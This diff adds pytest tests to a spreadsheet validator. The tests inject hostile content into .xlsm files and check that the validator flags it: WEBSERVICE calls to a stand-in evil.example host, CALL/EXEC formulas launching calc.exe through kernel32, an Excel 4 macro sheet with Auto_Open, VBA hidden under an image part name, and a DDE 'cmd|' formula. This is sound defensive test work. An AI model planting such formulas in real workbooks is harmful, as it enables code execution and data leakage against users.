@@ -328,3 +328,122 @@ def test_csv_neutralises_formula_looking_text(tmp_path: Path) -> None:
     for r in rows:
         for value in r.values():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+# --- the checks: input formulas, hostile functions anywhere, Excel 4 macros, VBA ------------------------------------
+
+MACRO_REL = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
+SHEET_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
+SHEET_XML = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+             'spreadsheetml/2006/main"><sheetData><row r="1">{cells}</row></sheetData></worksheet>')
+
+
+def add_sheet(data: bytes, name: str, cells: str, *, rel: str = SHEET_REL, part: str = "xl/worksheets/extra.xml",
+              root: str = "worksheet", names: str = "") -> bytes:
+    """``data`` with one more sheet (``rel``: its relationship type) holding ``cells``, and ``names`` added."""
+    body = SHEET_XML.format(cells=cells).replace("worksheet", root)
+    data = edit_part(data, "xl/workbook.xml", lambda x: x.replace(
+        "</sheets>", f'<sheet name="{name}" sheetId="77" r:id="rIdX"/></sheets>').replace(
+        "<definedNames>", "<definedNames>" + names))
+    data = edit_part(data, "xl/_rels/workbook.xml.rels", lambda x: x.replace(
+        "</Relationships>", f'<Relationship Id="rIdX" Type="{rel}" Target="{part[3:]}"/></Relationships>'))
+    return _rezip(data, extra=[(part, body.encode(), zipfile.ZIP_DEFLATED)])
+
+
+def f_cell(ref: str, formula: str, cached: str = "0") -> str:
+    return f'<c r="{ref}"><f>{formula.replace("&", "&amp;").replace("<", "&lt;")}</f><v>{cached}</v></c>'
+
+
+def test_input_cell_holding_a_formula_is_refused(tmp_path: Path) -> None:
+    """Routes!C4 = =400*1000 with cached 400: Excel shows 400000 after recompute; the cached 400 is not trusted."""
+    from validate_support import cell_xml as plan_cell
+    from validate_support import replace_cell
+
+    plan = plan_bytes()
+    old = plan_cell(plan, "Routes", "C4")
+    value = re.search(r"<v>([^<]*)</v>", old).group(1)
+    new = re.sub(r"<v>", f"<f>{value}*1000</f><v>", old.replace(' t="n"', ""), count=1)
+    p = write(tmp_path, "inputformula.xlsm", replace_cell(plan, "Routes", "C4", new))
+    findings = report(p)["reports"][0]["findings"]
+    assert [(f["code"], f["sheet"], f["cell"]) for f in findings] == [("input-formula", "Routes", "C4")]
+    assert findings[0]["actual"] == f"={value}*1000"
+
+
+@pytest.mark.parametrize("formula", ['_xlfn.WEBSERVICE("http://evil.example/x")', 'CALL("kernel32","WinExec","JCJ",'
+                                     '"calc",0)', 'EXEC("calc.exe")', 'REGISTER("user32","MessageBoxA","JJCCJ")',
+                                     'HYPERLINK("http://evil.example","click")', "[1]Secret!A1",
+                                     "'C:\\x\\[book.xlsx]S'!A1"])
+def test_hostile_formulas_in_an_extra_sheet(tmp_path: Path, formula: str) -> None:
+    data = add_sheet(plan_bytes(), "Notes", f_cell("A1", formula))
+    findings = report(write(tmp_path, "extra.xlsm", data))["reports"][0]["findings"]
+    got = {(f["code"], f["sheet"], f["cell"]) for f in findings}
+    want = "external-link" if "[" in formula else "hostile-function"
+    assert got == {(want, "Notes", "A1")}, findings
+
+
+def test_hostile_function_in_a_defined_name(tmp_path: Path) -> None:
+    data = add_sheet(plan_bytes(), "Notes", "", names='<definedName name="feed">WEBSERVICE("http://x")</definedName>')
+    findings = report(write(tmp_path, "name.xlsm", data))["reports"][0]["findings"]
+    assert [(f["code"], f["sheet"], f["expected"]) for f in findings] == [("hostile-function", None, "WEBSERVICE")]
+
+
+def test_excel4_macro_sheet_with_auto_open(tmp_path: Path) -> None:
+    data = add_sheet(plan_bytes(), "Macro1", f_cell("A1", 'EXEC("calc.exe")') + f_cell("A2", "HALT()"),
+                     rel=MACRO_REL, part="xl/macrosheets/sheet1.xml", root="xm:macrosheet",
+                     names='<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>')
+    data = data.replace(b"<xm:macrosheet xmlns=", b"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/"
+                        b"excel/2006/main\" xmlns=")
+    p = write(tmp_path, "xlm.xlsm", data)
+    codes = [f["code"] for f in report(p)["reports"][0]["findings"]]
+    assert codes.count("xlm-macro") == 2, codes
+
+
+def _vba_plan(vba: bytes, part: str = "xl/vbaProject.bin") -> bytes:
+    return _rezip(plan_bytes(), extra=[(part, vba, zipfile.ZIP_DEFLATED)])
+
+
+XLWINGS_QUICKSTART = Path(__import__("xlwings").__file__).with_name("quickstart.xlsm")
+MACRO01 = Path(__file__).parent / "data" / "excel-made" / "macro01.xlsm"
+
+
+def _bin(xlsm: Path) -> bytes:
+    return zipfile.ZipFile(xlsm).read("xl/vbaProject.bin")
+
+
+def test_vba_project_of_random_bytes_is_an_error(tmp_path: Path) -> None:
+    f = only(write(tmp_path, "random.xlsm", _vba_plan(os.urandom(4096))))
+    assert f["code"] == "macro-not-allowed" and "cannot be parsed" in f["message"]
+
+
+def test_ole_file_without_vba_is_an_error(tmp_path: Path) -> None:
+    ole = bytearray(_bin(MACRO01))
+    f = only(write(tmp_path, "broken.xlsm", _vba_plan(bytes(ole[:1024]))))  # an OLE header, nothing behind it
+    assert f["code"] == "macro-not-allowed" and "cannot be parsed" in f["message"]
+
+
+@pytest.mark.parametrize(("source", "module"), [(XLWINGS_QUICKSTART, "Module1"), (MACRO01, "Module1")])
+def test_other_vba_modules_are_errors_naming_the_module(tmp_path: Path, source: Path, module: str) -> None:
+    f = only(write(tmp_path, "macro.xlsm", _vba_plan(_bin(source))))
+    assert (f["code"], f["actual"]) == ("macro-not-allowed", module)
+    assert "only the generated xlwings_udfs module is allowed (Sub " in f["message"]
+
+
+def test_vba_project_under_another_part_name(tmp_path: Path) -> None:
+    f = only(write(tmp_path, "hidden.xlsm", _vba_plan(_bin(MACRO01), part="xl/media/image9.bin")))
+    assert f["code"] == "macro-not-allowed" and "stored as xl/media/image9.bin" in f["message"]
+
+
+def test_a_60_kb_hostile_formula_is_screened_in_linear_time(tmp_path: Path) -> None:
+    """The former DDE regex took 36 s on a 60 KB formula; every pattern here is a few milliseconds."""
+    import time
+
+    from planner.formula_scan import scan
+
+    n = 60_000
+    for formula in ("a" * n + "!|", "[" * n, "'" * n + "x", '"' + "a" * n, "cmd|" + "'" * n, "a(" * (n // 2),
+                    "[a" * (n // 2) + "]", "x|" * (n // 2), "]" + "a" * n + "!", "A1:" * (n // 3)):
+        start = time.perf_counter()
+        scan(formula)
+        assert time.perf_counter() - start < 1.0, formula[:10]
+    data = add_sheet(plan_bytes(), "Notes", f_cell("A1", "cmd|'" + "/c " * 20_000 + "'!A1"))
+    assert codes_of(write(tmp_path, "long.xlsm", data)) == {"dde-formula"}
